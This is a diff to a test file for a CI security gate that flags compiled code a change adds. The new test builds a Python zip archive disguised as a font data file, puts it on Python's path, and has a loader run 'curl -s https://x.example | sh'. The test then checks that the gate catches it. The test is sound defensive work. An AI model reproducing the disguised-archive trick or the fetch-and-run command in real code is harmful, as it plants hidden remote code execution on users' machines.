@@ -1,5 +1,5 @@
 import { execFileSync } from "node:child_process";
-import { appendFileSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
+import { appendFileSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { FakeGitHub } from "../action/fake-github";
@@ -51,6 +51,25 @@ describe("gate/compiled-code-added: compiled modules a change adds need another 
     expect(r.commands).toContain(`::error title=gate/compiled-code-added,file=${cache},line=1,endLine=1,col=1,endColumn=1::${cache} is compiled code the change adds or edits: no scan can read it, so it needs an approving review by someone other than the author on the head commit`);
   });
 
+  it("gate/compiled-code-added: a zip archive of Python modules named like data, put on Python's path by the agent, fails the built Action", async () => {
+    const pr = await pullRequest((dir) => {
+      mkdirSync(join(dir, "agent/vendor"));
+      // Python's own zipfile packs the module; a comment and a `#!` line before the archive change nothing for zipimport.
+      const pack = "import sys, zipfile\nwith zipfile.ZipFile(sys.argv[1], 'w') as z:\n    z.comment = b'assets'\n    z.writestr('tools.py', 'import os\\n\\n\\ndef run(cmd):\\n    return os.system(cmd)\\n')\n";
+      execFileSync("python3", ["-c", pack, join(dir, "agent/vendor/fonts.dat")]);
+      writeFileSync(join(dir, "agent/vendor/site.pyz"), Buffer.concat([Buffer.from("#!/usr/bin/env python3\n"), readFileSync(join(dir, "agent/vendor/fonts.dat"))]));
+      writeFileSync(join(dir, "agent/use_fonts.py"), "import os, sys\n\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'vendor', 'fonts.dat'))\nimport tools\n\ntools.run('curl -s https://x.example | sh')\n");
+    });
+    // The attack is real: Python imports the module from the archive and calls os.system.
+    expect(execFileSync("python3", ["-c", "import sys; sys.path.insert(0, sys.argv[1]); import tools; print(tools.run.__code__.co_names)", join(pr.dir, "agent/vendor/fonts.dat")], { encoding: "utf8" })).toContain("system");
+    const r = await gate(api, pr);
+    expect([r.code, errorRules(r)]).toEqual([1, ["gate/compiled-code-added", "gate/compiled-code-added"]]);
+    const what = "a zip archive of Python modules, which Python imports from when it is on its path (`tools.py`)";
+    for (const file of ["agent/vendor/fonts.dat", "agent/vendor/site.pyz"]) {
+      expect(r.commands).toContain(`::error title=gate/compiled-code-added,file=${file},line=1,endLine=1,col=1,endColumn=1::${file} is ${what} the change adds or edits: no scan can read it, so it needs an approving review by someone other than the author on the head commit`);
+    }
+  });
+
   it("gate/compiled-code-added: a Node addon and a shared library are reported too (CLI check --base)", async () => {
     const pr = await pullRequest((dir) => {
       mkdirSync(join(dir, "agent/native"));
@@ -66,12 +85,14 @@ describe("gate/compiled-code-added: compiled modules a change adds need another 
     ]);
   });
 
-  it("gate/compiled-code-added is clean for source-only changes and for binaries the base's configuration excludes", async () => {
+  it("gate/compiled-code-added is clean for source-only changes, a zip of data, and binaries the base's configuration excludes", async () => {
     const pr = await pullRequest(
       (dir) => {
         writeFileSync(join(dir, "agent/shout.py"), "def shout(text):\n    return text.upper()\n");
         mkdirSync(join(dir, "agent/prebuilt"));
         writeFileSync(join(dir, "agent/prebuilt/codec.so"), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0]));
+        // A zip of data, no Python modules in it.
+        execFileSync("python3", ["-c", "import sys, zipfile\nwith zipfile.ZipFile(sys.argv[1], 'w') as z: z.writestr('prompts/system.txt', 'Be brief.')", join(dir, "agent/prompts.zip")]);
       },
       (dir) => appendFileSync(join(dir, ".flowgate.yml"), 'exclude: ["agent/prebuilt/**"]\n'),
     );
